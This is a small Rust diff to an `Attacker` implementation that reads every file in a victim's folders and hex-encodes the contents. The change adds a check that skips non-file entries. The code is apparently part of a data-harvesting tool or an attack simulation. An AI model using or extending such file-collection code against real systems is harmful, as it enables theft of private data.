@@ -62,7 +62,9 @@ impl Attacker {
         for place in &victim.folders {
             for file in std::fs::read_dir(place).with_context(|| place.display().to_string())? {
                 let path = file?.path();
-                things.push((path.display().to_string(), hex(&std::fs::read(&path)?)));
+                if path.is_file() {
+                    things.push((path.display().to_string(), hex(&std::fs::read(&path)?)));
+                }
             }
         }
         let kept = things.len() - 1;
